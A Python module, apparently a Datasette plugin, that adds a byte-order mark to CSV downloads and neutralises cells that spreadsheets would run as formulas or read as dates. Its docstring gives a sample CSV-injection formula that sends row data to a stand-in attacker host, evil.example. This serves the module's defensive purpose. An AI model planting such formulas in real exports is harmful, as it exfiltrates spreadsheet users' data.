"""`_bom=on` on any CSV download makes it a CSV for a spreadsheet: a UTF-8
byte-order mark in front, no cell a spreadsheet would run as a formula, and
no date label it would turn into a date.

Excel on a default Windows set-up reads a CSV file without a byte-order
mark in the local code page, which garbles "Erdoğan" and every Arabic and
Hebrew name; with the mark it reads UTF-8. The mark is an option rather than
the default because programs that read CSV as plain UTF-8 (Python's csv
module, most command-line tools) would take it for part of the first column's
name. Datasette has no such option, so the mark is added to the response on
its way out. No plugin adds it either: datasette-xlsx and datasette-render-xlsx
write .xlsx instead, a second export format, and leave the CSV as it is.

A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` as a formula
(`=HYPERLINK("http://evil.example/?"&A1,"Click")` sends the row away on a
click), and so does one that begins with a tab or a carriage return followed
by one; the records are curated text and imported files, and the site's own
data has an actor named `@WYazbk`. So the spreadsheet CSV puts a `'` in front
of such a cell, as OWASP's CSV injection guidance says: the spreadsheet then
shows the text, with the quote. The plain CSV, the one programs read, is left
byte for byte as Datasette or /-/csv wrote it: a program would take the quote
for data, and neutralising is the spreadsheet's problem, not the data's.

A date written in words is a label, not a date: "January 2026" says the
month is all that is known, and "1973" is a year, not a quantity. Excel
and LibreOffice (with "detect special numbers", Excel's only behaviour)
read the first as the day 2026-01-01 and the second as the number 1973, so
a month-precision event became a day-precision one in 16 of the 50 rows the
newcomer review opened. So a cell of a label column (its name ends in
`_label`: date_label, published_label, and the names `_labels=on` adds)
that a spreadsheet would read as a date or a number, being digits, a
month's name and separators only, gets the same leading `'` and stays the
label as written; "between 13 and 20 July 2025" and "2024 to 2025" are
text to a spreadsheet already and are left alone, and so are the ISO dates
of start_date and end_date, which a spreadsheet should read as dates.

A list (the views keep actor_ids, actor_names and aliases as JSON arrays,
which programs read) is one cell of JSON text to a spreadsheet,
`["Government of Israel","Syrian transitional government"]`; the
spreadsheet CSV writes it as its items joined by "; ", and a cell of JSON
that is not a flat list (the map's popup) stays as it is.

A cell that is only a number (`-3`, `+1.5`, `-2e3`, ASCII digits) is left
alone, unlike OWASP's advice to quote every such cell: a spreadsheet reads it
as that number, which cannot call a function or refer to a cell, and a quote
would turn the places' negative longitudes and every other signed figure into
text that no sum or sort treats as a number.

The response is rewritten as it streams (a `_stream=on` download, or /-/csv's,
is hundreds of megabytes): the text is cut into whole lines, and Python's csv
module reads records from them; a quoted cell may hold line breaks, so a
record that a piece of the body ends inside waits for the next piece. A record
with nothing to neutralise goes out exactly as it came; one with something is
written again by the csv module (quoting what needs it, so its cells read back
the same). The length of the body changes, so Content-Length is dropped and
the server sends it in chunks.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import re
from collections import deque
from collections.abc import Iterator
from typing import Any
from urllib.parse import parse_qs

BOM = "\ufeff".encode()
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
LABEL_SUFFIX = "_label"
MONTH = (
    r"(?:jan(?:uary)?|feb(?:ruary)?|mar(?:ch)?|apr(?:il)?|may|june?|july?|aug(?:ust)?|"
    r"sep(?:t(?:ember)?)?|oct(?:ober)?|nov(?:ember)?|dec(?:ember)?)"
)
# Digits, at most one month's name, and separators: what a spreadsheet reads as a date or a number.
DATE_LIKE = re.compile(rf"(?=.*[0-9])[\s0-9,./:-]*(?:{MONTH}\.?[\s0-9,./:-]*)?", re.IGNORECASE)
# A cell is as long as the database's text, not the csv module's default 128 KB. (The limit is
# the process's, and nothing else in a Datasette process reads CSV.)
csv.field_size_limit(2**31 - 1)


def wants_bom(scope: dict) -> bool:
    if scope["type"] != "http" or not scope["path"].endswith(".csv"):
        return False
    values = parse_qs(scope["query_string"].decode("latin-1")).get("_bom", [])
    return any(value.lower() in ("on", "1", "true") for value in values)


def wants_header(scope: dict) -> bool:
    """Whether the CSV's first record names its columns (Datasette's `_header=off` leaves it out)."""
    return "off" not in parse_qs(scope["query_string"].decode("latin-1")).get("_header", [])


def listed(cell: str) -> str:
    """A JSON array of names or ids (actor_names, actor_ids, a place's aliases)
    as the names joined by "; ", which a spreadsheet shows and filters as text;
    any other cell as it is."""
    if not (cell.startswith("[") and cell.endswith("]")):
        return cell
    try:
        items = json.loads(cell)
    except ValueError:
        return cell  # a title in brackets, not JSON
    if not isinstance(items, list) or not all(isinstance(i, str | int | float) for i in items):
        return cell
    return "; ".join(str(i) for i in items)


def neutralised(cell: str, label: bool = False) -> str:
    """The cell as a spreadsheet may read it: a list as names, with a `'` in front
    if it would run as a formula or, in a label column, if it would turn into a
    date or a number."""
    cell = listed(cell)
    if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell):
        return "'" + cell
    if label and DATE_LIKE.fullmatch(cell):
        return "'" + cell
    return cell


class Lines:
    """The complete lines received so far, as csv.reader's input. It runs dry
    (StopIteration) when a record needs a line that has not arrived, and keeps
    the lines of the record being read, so that record can be read again."""

    def __init__(self) -> None:
        self.waiting: deque[str] = deque()
        self.record: list[str] = []
        self.dry = False

    def __iter__(self) -> Iterator[str]:
        return self

    def __next__(self) -> str:
        if not self.waiting:
            self.dry = True
            raise StopIteration
        line = self.waiting.popleft()
        self.record.append(line)
        return line


class Neutraliser:
    """A CSV body's bytes in, the same CSV with formula cells neutralised out, piece by piece."""

    def __init__(self, header: bool = True) -> None:
        self.header = header  # the next record is the header, which names the label columns
        self.labels: set[int] = set()
        self.decoder = codecs.getincrementaldecoder("utf-8")()
        self.partial = ""  # the text after the last line break
        self.lines = Lines()
        self.reader = csv.reader(self.lines)

    def feed(self, data: bytes, final: bool = False) -> bytes:
        """The output for the records completed by data; with final, for all that is left."""
        text = self.partial + self.decoder.decode(data, final)
        # Lines end at "\n" only: csv.reader ends a record at "\n" or "\r" alone, and a bare
        # "\r" comes only quoted, while str.splitlines would cut at "\x1c" or "\u2028" too.
        end = len(text) if final else text.rfind("\n") + 1
        self.partial = text[end:]
        lines = text[:end].split("\n")
        lines = [line + "\n" for line in lines[:-1]] + ([lines[-1]] if lines[-1] else [])
        self.lines.waiting.extend(lines)
        out = io.StringIO()
        writer = csv.writer(out)
        while True:
            self.lines.record, self.lines.dry = [], False
            row = next(self.reader, None)
            if row is None:
                break
            if self.lines.dry and not final:  # the record goes on in a piece still to come
                self.lines.waiting.extendleft(reversed(self.lines.record))
                break
            cells = [neutralised(cell, i in self.labels) for i, cell in enumerate(row)]
            if self.header:
                self.header = False
                self.labels = {i for i, name in enumerate(row) if name.endswith(LABEL_SUFFIX)}
            if cells == row:
                out.write("".join(self.lines.record))
            else:
                writer.writerow(cells)
        return out.getvalue().encode("utf-8")


def wrapper(datasette: Any) -> Any:
    def wrap(app):
        async def csv_bom(scope, receive, send):
            if not wants_bom(scope):
                await app(scope, receive, send)
                return
            state = {"ok": False, "marked": False}
            neutraliser = Neutraliser(header=wants_header(scope))

            async def marked(message):
                if message["type"] == "http.response.start":
                    headers = message.get("headers", [])
                    content_type = next((v for n, v in headers if n.lower() == b"content-type"), b"")
                    state["ok"] = message["status"] == 200 and not content_type.startswith(b"text/html")  # _trace=on
                    if state["ok"]:
                        headers = [(name, value) for name, value in headers if name.lower() != b"content-length"]
                        message = {**message, "headers": headers}
                elif message["type"] == "http.response.body" and state["ok"]:
                    more = message.get("more_body", False)
                    body = neutraliser.feed(message.get("body", b""), final=not more)
                    if not state["marked"]:
                        state["marked"] = True
                        body = BOM + body
                    message = {**message, "body": body}
                await send(message)

            await app(scope, receive, marked)

        return csv_bom

    return wrap
